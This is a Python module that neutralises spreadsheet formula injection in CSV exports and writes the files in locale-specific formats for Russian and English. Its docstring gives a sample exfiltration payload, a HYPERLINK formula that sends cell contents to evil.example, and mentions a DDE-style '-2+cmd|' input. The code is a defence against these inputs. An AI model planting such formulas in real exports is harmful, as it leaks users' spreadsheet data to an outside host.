"""CSV that a spreadsheet cannot run: OWASP's rule against formula injection, in one place.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets (`=HYPERLINK("http://evil.example/?"&A1,"x")` as a
worker's name sends the sheet's cells away when clicked). Such a cell is written with a
single quote in front, which the spreadsheet shows as text and does not evaluate.

A cell that is a plain decimal number (`-300.00`, a no-show's pay) is left as it is: a bare
number is not a formula, and quoting it would turn a debt into text that no column sum
counts. Only the whole cell matching `-?digits[.digits]` is exempt, so `-1+2` or `-2+cmd|...`
are still neutralised, whoever wrote them. A decimal comma (`-300,00`, as Russian Excel
writes numbers) counts as a plain number too.

Exports are also written the way a spreadsheet of the reader's language opens them with a
double click (`table_csv`): a UTF-8 byte-order mark (else Excel reads the text as the
system's ANSI code page), the list separator of the language (`;` where the decimal mark is
a comma, as in Russian; `,` in English), the decimal mark of the language, times in the
branch's timezone to the second, and dates as the language writes them (01.12.2026 in
Russian, 2026-12-01 in English).
"""

import csv
import io
import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from typing import Any, TextIO
from zoneinfo import ZoneInfo

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?\d+([.,]\d+)?", re.ASCII)
BOM = "\ufeff"


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet will show it, never run it."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeWriter:
    """csv.writer whose every cell goes through safe_cell: exports use this, never csv.writer."""

    def __init__(self, out: TextIO, **options: Any):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: TextIO, **options: Any) -> SafeWriter:
    return SafeWriter(out, **options)


class Word(str):
    """A cell that is a code (an attendance mark, a note, "total"): an export writes it in the
    reader's words."""


class Phrase(Word):
    """A coded cell with values (a payout's purpose and its dates): its words formatted with
    them, each value written as a cell of the reader's style would be (a date as they write
    it)."""

    values: dict[str, Any]

    def __new__(cls, code: str, **values: Any) -> "Phrase":
        phrase = super().__new__(cls, code)
        phrase.values = values
        return phrase


@dataclass(frozen=True)
class Style:
    """How a language's spreadsheet reads a CSV."""

    delimiter: str
    decimal: str
    date_format: str
    time_format: str  # a date and time, to the second

    def number(self, text: str) -> str:
        """A number's text ("1.5") with this language's decimal mark ("1,5" in Russian)."""
        return text.replace(".", self.decimal)


STYLES = {
    "ru": Style(";", ",", "%d.%m.%Y", "%d.%m.%Y %H:%M:%S"),
    "en": Style(",", ".", "%Y-%m-%d", "%Y-%m-%d %H:%M:%S"),
}


def decimal_text(text: str, language: str) -> str:
    """A number's text as the language writes it: the decimal comma in Russian; a language
    without a style keeps the point."""
    style = STYLES.get(language)
    return style.number(text) if style else text


@dataclass(frozen=True)
class Table:
    """An export before it is written: column codes (the header is their words), rows of
    plain values, and the timezone its times are shown in (the branch's)."""

    columns: list[str]
    rows: list[list[Any]]
    timezone: str


def style_cell(value: Any, style: Style, zone: ZoneInfo, words: Callable[[str], str]) -> Any:
    if value is None:
        return ""
    if isinstance(value, Phrase):
        shown = {k: style_cell(v, style, zone, words) for k, v in value.values.items()}
        return words(value).format(**shown)
    if isinstance(value, Word):
        return words(value)
    if isinstance(value, datetime):
        return value.astimezone(zone).strftime(style.time_format)  # no microseconds
    if isinstance(value, date):
        return value.strftime(style.date_format)
    if isinstance(value, (Decimal, float)):
        return style.number(str(value))
    return value


def table_csv(
    table: Table, *, header: list[str], style: Style, words: Callable[[str], str]
) -> bytes:
    """The table as a spreadsheet of that style opens it: BOM, separator, decimal mark, local
    times, every cell through safe_cell (the csv module does the quoting)."""
    zone = ZoneInfo(table.timezone)
    out = io.StringIO()
    out.write(BOM)
    sheet = writer(out, delimiter=style.delimiter)
    sheet.writerow(header)
    for row in table.rows:
        sheet.writerow([style_cell(value, style, zone, words) for value in row])
    return out.getvalue().encode("utf-8")
